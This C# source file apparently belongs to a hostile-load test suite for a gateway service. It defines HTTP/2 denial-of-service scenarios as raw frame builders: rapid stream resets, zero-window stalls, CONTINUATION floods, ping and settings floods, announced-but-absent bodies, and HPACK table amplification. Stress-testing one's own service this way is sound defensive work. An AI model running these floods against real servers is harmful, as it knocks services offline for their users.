using Gateway.Hostile.Attacks;
using Gateway.Hostile.Connections;

namespace Gateway.Hostile.Scenarios;

/// <summary>Attacks by frames of HTTP/2.</summary>
internal static class Http2Scenarios
{
    private const int Streams = 100;
    private const int FramesABatch = 50;
    private const string OpenApi = "/swagger/v1/swagger.json";

    public static IReadOnlyList<Scenario> All { get; } =
    [
        new("h2-resets", "20 connections that open and reset 500 streams/s each",
            run => new Http2Flood(batch => Batch(batch, id => [.. Submit(id, run), .. Reset(id)])).RunAsync(run, run.Count(20, 2))),
        new("h2-resets-documents", "20 connections that request and reset 500 documents/s each",
            run => new Http2Flood(batch => Batch(batch, id => [.. Http2Frame.Get(id, OpenApi), .. Reset(id)]))
                .RunAsync(run, run.Count(20, 2))),
        new("h2-no-window", "50 connections of 100 streams with a window of 0 for the OpenAPI document",
            run => NoWindow(id => Http2Frame.Get(id, OpenApi)).RunAsync(run, run.Count(50, 3))),
        new("h2-no-window-listings", "50 connections of 100 streams with a window of 0 for a listing of 200 jobs",
            run => NoWindow(id => Http2Frame.Get(id, "/jobs?limit=200", run.KeyOf(0, 1))).RunAsync(run, run.Count(50, 3)))
        { PrepareAsync = SubmitAsync },
        new("h2-unread", "50 connections of 100 streams for the OpenAPI document, unread",
            run => new Http2Flood(batch => batch == 0 ? All100(id => Http2Frame.Get(id, OpenApi)) : []) { IsRead = false }
                .RunAsync(run, run.Count(50, 3))),
        new("h2-bodies-announced", "50 connections of 100 streams that announce a body of 20 MiB and send none",
            run => new Http2Flood(batch => batch == 0 ? All100(id => Submit(id, run)) : []).RunAsync(run, run.Count(50, 3))),
        new("h2-continuation", "50 connections that send a header block without an end, 1 MB/s each",
            run => new Http2Flood(Continuation).RunAsync(run, run.Count(50, 3))),
        new("h2-pings", "20 connections that send 1,000 pings/s each and do not read",
            run => new Http2Flood(_ => Many(100, () => Http2Frame.Of(Http2Frame.Ping, 0, 0, new byte[8]))) { IsRead = false }
                .RunAsync(run, run.Count(20, 2))),
        new("h2-settings", "20 connections that send 1,000 settings/s each and do not read",
            run => new Http2Flood(_ => Many(100, () => Http2Frame.Of(Http2Frame.Settings, 0, 0, []))) { IsRead = false }
                .RunAsync(run, run.Count(20, 2))),
        new("h2-small-frames", "20 connections that send 3,000 priorities, window updates and empty bodies per second each",
            run => new Http2Flood(batch => batch == 0 ? Submit(1, run) : Many(100, SmallFrames)).RunAsync(run, run.Count(20, 2))),
        new("h2-headers", "50 connections whose headers refer 1,000 times to a stored field of 4 KB, 20 streams/s each",
            run => new Http2Flood(batch => LargeHeaders((2 * batch) + 1)) { Interval = TimeSpan.FromMilliseconds(50) }
                .RunAsync(run, run.Count(50, 3))),
    ];

    /// <summary>A submit whose body does not come.</summary>
    private static byte[] Submit(int id, AttackRun run) => Http2Frame.Of(
        Http2Frame.Headers, Http2Frame.EndHeaders, id,
        Http2Frame.Block(
            "POST", "/" + HttpText.Model, run.KeyOf(id / 2, 20), ("content-type", "application/json"), ("content-length", "20000000")));

    private static byte[] Reset(int id) => Http2Frame.Of(Http2Frame.Reset, 0, id, Http2Frame.Number(8));

    /// <summary>The frames of the next streams of a connection.</summary>
    private static byte[] Batch(int batch, Func<int, byte[]> frames) =>
        [.. Enumerable.Range(batch * FramesABatch, FramesABatch).SelectMany(n => frames((2 * n) + 1))];

    private static byte[] All100(Func<int, byte[]> frames) => [.. Enumerable.Range(0, Streams).SelectMany(n => frames((2 * n) + 1))];

    private static Http2Flood NoWindow(Func<int, byte[]> frames) => new(batch => batch == 0 ? All100(frames) : []) { Window = 0 };

    private static byte[] Many(int times, Func<byte[]> frames) => [.. Enumerable.Range(0, times).SelectMany(_ => frames())];

    private static byte[] SmallFrames() =>
    [
        .. Http2Frame.Of(Http2Frame.Priority, 0, 1, [0, 0, 0, 0, 16]),
        .. Http2Frame.Of(Http2Frame.WindowUpdate, 0, 0, Http2Frame.Number(1)),
        .. Http2Frame.Of(Http2Frame.Data, 0, 1, []),
    ];

    /// <summary>100 KB of a header block that has no end.</summary>
    private static byte[] Continuation(int batch) =>
    [
        .. batch == 0 ? Http2Frame.Of(Http2Frame.Headers, 0, 1, Http2Frame.Block("GET", "/jobs", null)) : [],
        .. Many(10, () => Http2Frame.Of(Http2Frame.Continuation, 0, 1, Http2Frame.Field("x-held", new string('a', 10_000)))),
    ];

    /// <summary>The first field enters the table of the receiver as entry 62. Each later byte refers to it.</summary>
    private static byte[] LargeHeaders(int id)
    {
        byte[] stored = id == 1 ? Http2Frame.Field("x-stored", new string('a', 4_000), isIndexed: true) : [];
        return Http2Frame.Of(
            Http2Frame.Headers, Http2Frame.EndHeaders | Http2Frame.EndStream, id,
            [.. Http2Frame.Block("GET", "/jobs", null), .. stored, .. Enumerable.Repeat((byte)(0x80 | 62), 1_000)]);
    }

    private static async Task SubmitAsync(AttackRun run)
    {
        using var caller = new Caller(run.Target, connections: 16);
        await caller.SubmitAsync(200, HttpText.Model, _ => run.KeyOf(0, 1));
    }
}
